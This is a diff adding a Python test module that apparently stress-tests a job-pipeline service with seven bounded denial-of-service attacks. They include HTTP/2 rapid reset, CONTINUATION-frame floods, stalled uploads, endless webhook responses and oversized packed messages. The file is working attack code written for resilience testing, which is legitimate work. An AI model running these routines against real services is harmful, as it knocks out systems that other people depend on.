@@ -1,0 +1,247 @@
+"""The attacks. Each runs for a bounded time against addresses of this machine and ends by itself."""
+
+from __future__ import annotations
+
+import asyncio
+import time
+from collections.abc import Awaitable, Callable, Iterator, Mapping
+from contextlib import suppress
+from dataclasses import dataclass
+from urllib.parse import urlsplit
+
+import httpx
+from h2.config import H2Configuration
+from h2.connection import H2Connection
+from h2.exceptions import ProtocolError
+
+LIST_JOBS = "/pipeline.jobs.v1.JobsService/ListJobs"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+# Frame types and flags of RFC 9113.
+HEADERS, CONTINUATION, SETTINGS = 0x1, 0x9, 0x4
+END_STREAM, END_HEADERS = 0x1, 0x4
+LINE = b'{"prompt": "question", "completion": "answer"}\n'
+
+
+@dataclass(frozen=True)
+class Target:
+    """The addresses of a stack and what attackers have: tokens of users of their own."""
+
+    gateway: str
+    jobs: str
+    estimator: str
+    tokens: list[str]
+
+
+async def half_open_calls(target: Target, seconds: float) -> str:
+    """X01: one token opens 300 calls without ever sending their message, again and again."""
+    opened = 0
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        connections = [await _connect(target.jobs) for _ in range(3)]
+        for connection, _, writer in connections:
+            for stream in range(1, 200, 2):
+                connection.send_headers(stream, _headers(LIST_JOBS, target.tokens[0]))
+                opened += 1
+            writer.write(connection.data_to_send())
+        await asyncio.sleep(min(10.0, max(0.0, end - time.monotonic())))
+        for _, _, writer in connections:
+            writer.close()
+    return f"{opened} calls without a message"
+
+
+async def watches(target: Target, seconds: float) -> str:
+    """X02: every attacker opens as many event streams as it may."""
+    limits = httpx.Limits(max_connections=4_000)
+    statuses: list[int] = []
+
+    async def watch(client: httpx.AsyncClient, token: str) -> None:
+        headers = {"authorization": f"Bearer {token}"}
+        async with client.stream("GET", "/api/jobs/events", headers=headers) as response:
+            statuses.append(response.status_code)
+            async for _ in response.aiter_bytes():
+                pass
+
+    async with httpx.AsyncClient(base_url=target.gateway, timeout=seconds, limits=limits) as client:
+        await _for(seconds, (watch(client, token) for token in target.tokens for _ in range(50)))
+    return f"{statuses.count(200)} streams open, {statuses.count(429)} refused"
+
+
+async def held_uploads(target: Target, seconds: float) -> str:
+    """X03: 600 uploads of 900 kB that stop before their end."""
+    statuses: list[int] = []
+
+    async def upload(client: httpx.AsyncClient, token: str, number: int) -> None:
+        async def body() -> object:
+            for _ in range(9):
+                yield LINE * (100_000 // len(LINE))
+            await asyncio.sleep(seconds)
+
+        headers = {"authorization": f"Bearer {token}", "content-type": "application/jsonl"}
+        response = await client.post(f"/api/datasets?name=held-{number}", content=body(), headers=headers)  # type: ignore[arg-type]
+        statuses.append(response.status_code)
+
+    async with httpx.AsyncClient(
+        base_url=target.gateway, timeout=seconds, limits=httpx.Limits(max_connections=700)
+    ) as client:
+        users = target.tokens
+        await _for(seconds, (upload(client, users[number % len(users)], number) for number in range(600)))
+    return f"{statuses.count(429)} of 600 refused with 429"
+
+
+async def slow_receivers(target: Target, seconds: float) -> str:
+    """X04: webhooks of six users whose receivers send interim answers without end, headers without end, or nothing for 14 s."""
+    sent = 0
+
+    async def receive(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        nonlocal sent
+        sent += 1
+        with suppress(OSError, asyncio.IncompleteReadError):
+            await reader.readuntil(b"\r\n\r\n")
+            kind = sent % 3
+            if kind == 0:
+                while True:
+                    writer.write(b"HTTP/1.1 100 Continue\r\n\r\n" * 1_000)
+                    await writer.drain()
+            if kind == 1:
+                writer.write(b"HTTP/1.1 200 OK\r\n")
+                while True:
+                    writer.write(b"x-filler: " + b"x" * 8_000 + b"\r\n")
+                    await writer.drain()
+            await asyncio.sleep(14)
+        writer.close()
+
+    server = await asyncio.start_server(receive, "127.0.0.1", 0)
+    port = server.sockets[0].getsockname()[1]
+    async with httpx.AsyncClient(base_url=target.gateway, timeout=10) as client:
+
+        async def provoke(token: str) -> None:
+            headers = {"authorization": f"Bearer {token}"}
+            hook = {"url": f"http://127.0.0.1:{port}/", "event_types": []}
+            created = (await client.post("/api/webhooks", json=hook, headers=headers)).json()
+            while True:
+                await client.post(f"/api/webhooks/{created['data']['webhook']['id']}/test", json={}, headers=headers)
+                await asyncio.sleep(0.5)
+
+        await _for(seconds, map(provoke, target.tokens[:6]))
+    server.close()
+    return f"{sent} deliveries caught"
+
+
+async def rapid_reset(target: Target, seconds: float) -> str:
+    """X11, G11: streams without a token are opened and reset as fast as the connection takes them."""
+    resets = 0
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        connection, reader, writer = await _connect(target.jobs)
+        with suppress(OSError, ProtocolError):
+            for stream in range(1, 20_000, 2):
+                connection.send_headers(stream, _headers(LIST_JOBS, ""))
+                connection.reset_stream(stream)
+                resets += 1
+                if stream % 200 == 1:
+                    writer.write(connection.data_to_send())
+                    await writer.drain()
+                    if time.monotonic() > end or reader.at_eof():
+                        break
+        writer.close()
+    return f"{resets} streams reset"
+
+
+async def continuation_flood(target: Target, seconds: float) -> str:
+    """X11: header blocks that never end, on 20 connections."""
+    sent = 0
+
+    async def flood() -> None:
+        nonlocal sent
+        host, _, port = target.jobs.rpartition(":")
+        while True:
+            _, writer = await asyncio.open_connection(host, int(port))
+            with suppress(OSError):
+                writer.write(PREFACE + _frame(SETTINGS, 0, 0, b"") + _frame(HEADERS, END_STREAM, 1, b"\x82"))
+                while True:
+                    # A literal header field without indexing: a name of one byte, a value of 8,000.
+                    writer.write(_frame(CONTINUATION, 0, 1, b"\x00\x01x\x7f\xc1\x3d" + b"v" * 8_000))
+                    await writer.drain()
+                    sent += 1
+            writer.close()
+
+    await _for(seconds, (flood() for _ in range(20)))
+    return f"{sent} CONTINUATION frames"
+
+
+async def packed_lists(target: Target, seconds: float) -> str:
+    """L06: comparisons with four million packed GPU counts."""
+    body = b"\x1a" + _varint(4_000_000) + b"\x01" * 4_000_000
+    sent = 0
+    end = time.monotonic() + seconds
+    path = "/pipeline.estimator.v1.EstimatorService/CompareConfigurations"
+    while time.monotonic() < end:
+        connection, _, writer = await _connect(target.estimator)
+        connection.send_headers(1, _headers(path, target.tokens[0]))
+        frame = b"\0" + len(body).to_bytes(4, "big") + body
+        with suppress(OSError, ProtocolError, TimeoutError):
+            async with asyncio.timeout(5):
+                while frame and time.monotonic() < end:
+                    size = min(len(frame), connection.local_flow_control_window(1), 16_384)
+                    if size:
+                        connection.send_data(1, frame[:size])
+                        frame = frame[size:]
+                    writer.write(connection.data_to_send())
+                    await writer.drain()
+                    if not size:
+                        await asyncio.sleep(0.01)
+                        break
+        sent += 1
+        writer.close()
+        await asyncio.sleep(0.05)
+    return f"{sent} messages"
+
+
+ATTACKS: Mapping[str, Callable[[Target, float], Awaitable[str]]] = {
+    attack.__name__: attack
+    for attack in (
+        half_open_calls,
+        watches,
+        held_uploads,
+        slow_receivers,
+        rapid_reset,
+        continuation_flood,
+        packed_lists,
+    )
+}
+
+
+async def _for(seconds: float, work: Iterator[Awaitable[None]]) -> None:
+    """Runs everything at once and cancels what is left after `seconds`."""
+    tasks = [asyncio.ensure_future(each) for each in work]
+    await asyncio.wait(tasks, timeout=seconds)
+    for task in tasks:
+        task.cancel()
+    await asyncio.gather(*tasks, return_exceptions=True)
+
+
+async def _connect(address: str) -> tuple[H2Connection, asyncio.StreamReader, asyncio.StreamWriter]:
+    url = urlsplit(f"//{address}")
+    reader, writer = await asyncio.open_connection(url.hostname, url.port)
+    connection = H2Connection(H2Configuration(client_side=True, validate_outbound_headers=False))
+    connection.initiate_connection()
+    writer.write(connection.data_to_send())
+    return connection, reader, writer
+
+
+def _headers(path: str, token: str) -> list[tuple[str, str]]:
+    first = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "test")]
+    headers = [*first, ("te", "trailers"), ("content-type", "application/grpc")]
+    return [*headers, ("authorization", f"Bearer {token}")] if token else headers
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def _varint(number: int) -> bytes:
+    encoded = bytearray()
+    while number > 0x7F:
+        encoded.append(number & 0x7F | 0x80)
+        number >>= 7
+    return bytes([*encoded, number])
